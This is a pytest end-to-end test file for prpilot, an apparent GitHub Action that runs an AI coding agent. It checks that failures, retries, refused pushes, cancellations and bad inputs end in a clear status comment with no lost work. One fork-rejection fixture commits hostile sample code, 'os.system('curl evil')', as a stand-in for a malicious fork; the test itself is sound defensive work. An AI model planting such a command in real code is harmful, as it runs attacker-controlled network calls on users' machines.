"""End to end: every fault ends in a final status, a status comment that says what happened, no lost work."""

from __future__ import annotations

import stat
import subprocess
from pathlib import Path
from urllib.parse import quote

import pytest

from prpilot.testing import openai_replies as say
from prpilot.testing.scenario import API_KEY, WRITER, Bed

pytestmark = pytest.mark.e2e


def _status_comment(bed: Bed, number: int) -> str:
    ours = bed.status_comments(number)
    assert len(ours) == 1, ours
    return ours[0]


def _script_typo_fix(bed: Bed) -> None:
    bed.model.script(
        say.tool("edit_file", {"path": "README.md", "old": "projet", "new": "project"}),
        say.text("Fixed the typo."),
        say.text("Fix the typo in README.md"),
    )


def test_github_502_and_secondary_rate_limit_are_retried(bed: Bed) -> None:
    _script_typo_fix(bed)
    bed.github.fail("POST", r"/issues/\d+/comments$", 502, times=1)
    bed.github.rate_limit("POST", r"/reactions$", times=1, retry_after=1)
    event = bed.issue_comment("/pilot fix the typo in README.md")

    result = bed.run("issue_comment", event)

    assert result.outputs["status"] == "completed", result.logs
    statuses = [(r.method, r.status) for r in bed.github.rest() if r.path.endswith(("/comments", "/reactions"))]
    assert ("POST", 502) in statuses
    assert ("POST", 403) in statuses
    assert len(bed.github.pulls(bed.repo)) == 1


def test_failed_pull_request_creation_keeps_the_branch_and_links_it(bed: Bed) -> None:
    _script_typo_fix(bed)
    bed.github.fail("POST", r"/pulls$", 500, times=50)
    event = bed.issue_comment("/pilot fix the typo in README.md")

    result = bed.run("issue_comment", event)

    assert result.outputs["status"] == "failed"
    branch = result.outputs["branch"]
    assert branch.startswith("pilot/")
    assert "This project says hello." in (bed.github.read_file(bed.repo, "README.md", ref=branch) or "")
    comment = _status_comment(bed, event["issue"]["number"])
    assert f"/tree/{branch}" in comment
    assert f"[Open a pull request from it]({bed.github.server_url}/{bed.repo}/compare/main...{branch}?expand=1)" in (
        comment)
    assert "Traceback" not in result.logs


def test_pull_requests_not_allowed_for_actions_pushes_the_branch_and_links_the_compare_page(bed: Bed) -> None:
    # A new repository's default: "Allow GitHub Actions to create and approve pull requests" is off.
    bed.github.allow_actions_to_create_pull_requests(bed.repo, False)
    _script_typo_fix(bed)
    event = bed.issue_comment("/pilot fix the typo in README.md")

    result = bed.run("issue_comment", event)

    assert result.outputs["status"] == "completed", result.logs
    assert result.outputs["pr-number"] == result.outputs["pr-url"] == ""
    branch = result.outputs["branch"]
    assert branch.startswith("pilot/")
    assert bed.github.pulls(bed.repo) == []
    assert [r.status for r in bed.github.rest() if r.method == "POST" and r.path.endswith("/pulls")] == [403]
    assert "This project says hello." in (bed.github.read_file(bed.repo, "README.md", ref=branch) or "")
    compare = f"{bed.github.server_url}/{bed.repo}/compare/main...{quote(branch, safe='/')}?expand=1"
    setting = "Settings → Actions → General → Workflow permissions"
    comment = _status_comment(bed, event["issue"]["number"])
    assert "✅" in comment
    assert f"&body=Closes%20%23{event['issue']['number']}" in comment  # the hand-opened PR still closes the issue
    for text in (comment, result.outputs["result"], result.summary):
        assert compare in text
        assert f"`{branch}`" in text
        assert "Allow GitHub Actions to create and approve pull requests" in text
        assert setting in text
        assert "`github-token`" in text
    warnings = [line for line in result.logs.splitlines() if line.startswith("::warning::")]
    assert any(compare in line for line in warnings), result.logs
    assert "Traceback" not in result.logs
    assert API_KEY not in comment + result.outputs["result"] + result.summary


def test_pull_requests_not_allowed_for_actions_still_lets_a_personal_token_open_them(bed: Bed) -> None:
    bed.github.allow_actions_to_create_pull_requests(bed.repo, False)
    bed.runner.token = bed.github.issue_token(WRITER)  # a personal token passed as github-token
    _script_typo_fix(bed)

    result = bed.run("issue_comment", bed.issue_comment("/pilot fix the typo in README.md"))

    assert result.outputs["status"] == "completed", result.logs
    (pull,) = bed.github.pulls(bed.repo)
    assert pull.user == WRITER
    assert result.outputs["pr-number"] == str(pull.number)


def test_branch_name_taken_on_the_remote_moves_to_a_new_name(bed: Bed) -> None:
    # Another run already pushed a branch of the name this task would take; the engine does not
    # ask the remote first (one round trip saved per task), so the push must refuse to overwrite it.
    taken = "pilot/fix-the-typo-in-readme-md"
    other_work = bed.github.commit(bed.repo, taken, {"OTHER.md": "another run's work\n"})
    _script_typo_fix(bed)

    result = bed.run("issue_comment", bed.issue_comment("/pilot fix the typo in README.md"))

    assert result.outputs["status"] == "completed", result.logs
    assert result.outputs["branch"] == f"{taken}-2"
    assert bed.github.ref(bed.repo, f"refs/heads/{taken}") == other_work
    assert "This project says hello." in (bed.github.read_file(bed.repo, "README.md", ref=f"{taken}-2") or "")
    assert [pull.pull.head_ref for pull in bed.github.pulls(bed.repo) if pull.pull] == [f"{taken}-2"]


def test_push_refused_by_the_server_fails_in_words_and_hands_back_the_patch(bed: Bed, tmp_path: Path) -> None:
    # A server-side refusal (a hook, a protected branch, a token without the workflows scope) is
    # not a race: a new branch name would be refused too, so the task says why after one attempt.
    hooks = Path(bed.github.repo(bed.repo).git.path) / "hooks"
    hooks.mkdir(exist_ok=True)
    hook = hooks / "pre-receive"
    hook.write_text("#!/bin/sh\necho 'pushes are frozen' >&2\nexit 1\n")
    hook.chmod(hook.stat().st_mode | stat.S_IEXEC)
    _script_typo_fix(bed)
    event = bed.issue_comment("/pilot fix the typo in README.md")

    result = bed.run("issue_comment", event)

    assert result.outputs["status"] == "failed"
    comment = _status_comment(bed, event["issue"]["number"])
    assert "refused the push" in comment
    assert "pre-receive hook declined" in comment
    pushes = [r for r in bed.github.requests if r.path.endswith("/git-receive-pack")]
    assert len(pushes) == 1  # never retried under another name
    assert bed.github.git(bed.repo, "branch", "--list", "pilot/*") == ""
    assert "Traceback" not in result.logs
    # The runner's checkout is gone after the job: the work comes back on the thread, as a patch that applies.
    patch = comment.split("```diff\n", 1)[1].split("\n```", 1)[0] + "\n"
    assert "+This project says hello." in patch
    assert patch in result.summary
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(bed.github.repo(bed.repo).git.path), str(clone)], check=True)
    applied = subprocess.run(["git", "-c", "user.name=A", "-c", "user.email=a@b", "am", "-q"], cwd=clone,
                             input=patch, text=True, capture_output=True, check=False)
    assert applied.returncode == 0, applied.stderr
    assert "This project says hello." in (clone / "README.md").read_text()


@pytest.mark.real_interpreter  # the cancelled job's runner signals the engine step's process
def test_cancelled_job_pushes_the_work_says_cancelled_and_settles_the_bill(bed: Bed) -> None:
    bed.model.script(
        say.tool("write_file", {"path": "NOTES.md", "content": "work in progress\n"}),
        say.text("never seen").after(60),
    )
    event = bed.issue_comment("/pilot write some notes")

    # Cancelled once the file is written (the model's second call, which then takes 60 s), not after a
    # fixed time: on a busy machine the engine had not reached the first call after 6 s.
    result = bed.runner.run("issue_comment", event, bed.inputs, cancel_when=lambda: len(bed.model.requests) >= 2,
                            cancel_grace=20)

    assert result.cancelled
    assert result.outputs.get("status") == "failed", result.logs
    comment = _status_comment(bed, event["issue"]["number"])
    assert "cancelled" in comment
    branch = result.outputs["branch"]
    assert bed.github.read_file(bed.repo, "NOTES.md", ref=branch) == "work in progress\n"
    ledger = bed.github.git(bed.repo, "log", "-p", "refs/prpilot/ledger")
    assert '"settlement"' in ledger
    assert result.outputs["task-id"] in ledger


@pytest.mark.parametrize(
    ("inputs", "expected"),
    [
        ({"max_steps": "abc"}, "input max-steps must be a whole number"),
        ({"rate_limit": "-3"}, "input rate-limit must be a positive whole number"),
        ({"monthly_budget": "lots"}, "input monthly-budget must be an amount in USD"),
        ({"strategy": "teleport"}, "input strategy must be one of"),
    ],
)
def test_bad_input_is_one_clear_line_and_a_nonzero_exit(bed: Bed, inputs: dict[str, str], expected: str) -> None:
    event = bed.issue_comment("/pilot fix it")

    result = bed.run("issue_comment", event, **inputs)

    assert result.exit_code != 0
    errors = [line for line in result.logs.splitlines() if line.startswith("::error::")]
    assert len(errors) == 1
    assert expected in errors[0]
    assert "Traceback" not in result.logs
    assert result.outputs["status"] == "failed"
    assert expected in result.outputs["result"]
    assert expected in result.summary
    # The person who asked hears it too: which input, not its value (a value may be anything).
    comment = _status_comment(bed, event["issue"]["number"])
    name = expected.split()[1]
    assert f"`{name}` input is invalid" in comment
    assert next(iter(inputs.values())) not in comment


def test_bad_input_says_nothing_on_a_thread_that_did_not_ask(bed: Bed) -> None:
    event = bed.issue_comment("just a comment, no request")

    result = bed.run("issue_comment", event, max_steps="abc")

    # The first step reads only the inputs that say whether this is a request (the standard library
    # has no settings parser): a comment that is none ends there, and the bad input is reported on the
    # first real request (the test above), not on every comment of the repository.
    assert result.ok, result.logs
    assert result.outputs["status"] == "skipped"
    assert result.step("install").outcome == "skipped"
    assert bed.github.rest() == []


def test_bad_engine_input_fails_the_acknowledged_task_on_the_thread(bed: Bed) -> None:
    event = bed.issue_comment("/pilot fix it")

    result = bed.run("issue_comment", event, max_minutes="soon")

    assert result.exit_code != 0
    assert result.outputs["status"] == "failed"
    # Said by the schedule step, before admission: the engine never starts and nothing is held.
    assert result.step("run").outcome == "failure"
    assert "engine-started" not in result.step("run").outputs
    assert "input max-minutes must be a number, not 'soon'" in result.logs
    comment = _status_comment(bed, event["issue"]["number"])
    assert "the workflow's `max-minutes` input is invalid" in comment
    assert "soon" not in comment  # the value stays in the run log
    assert "❌" in comment
    assert bed.model.calls == []
    assert "Traceback" not in result.logs


def test_malformed_event_payload_is_a_clear_error(bed: Bed) -> None:
    event = bed.issue_comment("/pilot fix it")
    event["comment"] = "not an object"

    result = bed.run("issue_comment", event)

    assert result.exit_code != 0
    assert "::error::prpilot: cannot read the issue_comment event" in result.logs
    assert "Traceback" not in result.logs


def test_missing_api_key_fails_on_the_thread_in_words(bed: Bed) -> None:
    event = bed.issue_comment("/pilot fix the typo in README.md")

    result = bed.run("issue_comment", event, openai_api_key="")

    assert result.outputs["status"] == "failed"
    assert result.exit_code != 0
    comment = _status_comment(bed, event["issue"]["number"])
    assert "openai-api-key" in comment
    assert "❌" in comment
    assert "Traceback" not in result.logs


def test_fork_pull_request_is_answered_not_checked_out(bed: Bed) -> None:
    bed.github.add_repo("mallory/hello-world", fork_of=bed.repo)
    bed.github.commit("mallory/hello-world", "evil", {"src/hello.py": "import os; os.system('curl evil')\n"})
    pull = bed.github.add_pull(bed.repo, head="evil", head_repo="mallory/hello-world", title="Improve")
    # Any request but a review (which reads a fork's code and runs none of it: tests/e2e/test_review_command.py).
    event = bed.pull_comment("/pilot tidy this up", pull)

    result = bed.run("issue_comment", event)

    assert result.ok, result.logs
    assert result.outputs["status"] == "rejected"
    assert result.step("run").outputs["admitted"] == "false"
    assert bed.model.calls == []
    comment = _status_comment(bed, pull)
    assert "mallory/hello-world" in comment
    assert "fork" in comment


def test_read_only_token_explains_the_missing_permissions(bed: Bed) -> None:
    bed.runner.token = bed.github.read_token
    event = bed.issue_comment("/pilot fix the typo in README.md")

    result = bed.run("issue_comment", event)

    assert result.exit_code != 0
    assert "permissions: contents: write" in result.logs
    assert "Traceback" not in result.logs


def test_missing_github_token_is_one_clear_line(bed: Bed) -> None:
    result = bed.run("issue_comment", bed.issue_comment("/pilot fix it"), github_token="")

    assert result.exit_code != 0
    errors = [line for line in result.logs.splitlines() if line.startswith("::error::")]
    assert errors == ["::error::prpilot: the github-token input is empty; pass ${{ github.token }} or a token with "
                      "write access"]


def test_pull_request_branch_moved_meanwhile_keeps_the_work_on_a_new_branch(bed: Bed) -> None:
    bed.github.commit(bed.repo, "feature", {"src/hello.py": 'print("helo")\n'}, "Add a greeting")
    pull = bed.github.add_pull(bed.repo, head="feature", title="Greeting")
    bed.model.script(
        say.tool("edit_file", {"path": "src/hello.py", "old": "helo", "new": "hello"}),
    )
    pushed_meanwhile: list[str] = []

    def someone_pushes_then_answer(_request: object, _index: int) -> say.Reply:
        # While the agent works (after its edit, before prpilot pushes), a person pushes to the PR.
        if not pushed_meanwhile:
            pushed_meanwhile.append(bed.github.commit(bed.repo, "feature", {"NOTES.md": "mine\n"}, "Meanwhile"))
        return say.text("Fixed.")

    bed.model.set_policy(someone_pushes_then_answer)

    result = bed.run("issue_comment", bed.pull_comment("/pilot fix the typo", pull))

    assert result.outputs["status"] == "failed"
    rescue = result.outputs["branch"]
    assert rescue.startswith("pilot/")
    assert bed.github.read_file(bed.repo, "src/hello.py", ref=rescue) == 'print("hello")\n'
    comment = _status_comment(bed, pull)
    assert "moved while prpilot worked" in comment
    assert f"/tree/{rescue}" in comment
    assert bed.github.ref(bed.repo, "refs/heads/feature") == pushed_meanwhile[0]  # the person's push stands


def test_rerun_of_a_failed_job_answers_in_the_same_status_comment(bed: Bed) -> None:
    event = bed.issue_comment("/pilot fix the typo in README.md")
    bed.model.set_policy(say.always_error(500))
    failed = bed.run("issue_comment", event)
    assert failed.outputs["status"] == "failed"
    assert "❌" in _status_comment(bed, event["issue"]["number"])

    bed.model.reset()
    _script_typo_fix(bed)
    rerun = bed.runner.run("issue_comment", event, bed.inputs, run_attempt=2)  # "Re-run failed jobs"

    assert rerun.outputs["status"] == "completed", rerun.logs
    comment = _status_comment(bed, event["issue"]["number"])  # still exactly one
    assert "✅" in comment
    assert "/pull/" in comment
    assert rerun.outputs["task-id"] != failed.outputs["task-id"]
    # A new task: its own reservation and its own bill, in the ledger and at the billing endpoint.
    from github import Auth, Github
    from prpilot.billing.ledger import Ledger, Reservation, settlements
    from prpilot.billing.ref_ledger import RefLedgerBackend
    from prpilot.github.ref_store import GitRefStore

    client = Github(auth=Auth.Token(bed.github.token), base_url=bed.github.api_url, lazy=True)
    records = Ledger(RefLedgerBackend(GitRefStore(client.get_repo(bed.repo)))).records()
    both = {failed.outputs["task-id"], rerun.outputs["task-id"]}
    assert {r.task_id for r in records if isinstance(r, Reservation)} == both
    assert {task_id: s.bill.status for task_id, s in settlements(records).items()} == {
        failed.outputs["task-id"]: "failed", rerun.outputs["task-id"]: "completed"}
    assert sorted(bill["task_id"] for bill in bed.billing.bills) == sorted(both)


def test_a_pull_request_task_whose_push_keeps_failing_does_not_say_the_work_is_on_it(bed: Bed) -> None:
    # Issue 13, class 6: the thread said "the work done so far is on the pull request" when it was only in the patch.
    bed.github.commit(bed.repo, "feature", {"src/hello.py": 'print("helo")\n'}, "Add a greeting")
    pull = bed.github.add_pull(bed.repo, head="feature", title="Greeting")
    bed.model.script(
        say.tool("edit_file", {"path": "src/hello.py", "old": "helo", "new": "hello"}),
        say.text("Fixed."),
        say.text("Fix the greeting"),  # the title, asked once there is a change to commit
    )
    bed.github.fail("POST", r"/git-receive-pack$", 500, times=99)

    result = bed.run("issue_comment", bed.pull_comment("/pilot fix the typo", pull))

    assert result.outputs["status"] == "failed", result.logs
    comment = _status_comment(bed, pull)
    assert "on the pull request" not in comment
    assert '+print("hello")' in comment  # the work is in the patch on the thread
    assert len([r for r in bed.github.requests if r.path.endswith("/git-receive-pack")]) == 3  # tried, within a bound
    assert "Traceback" not in result.logs
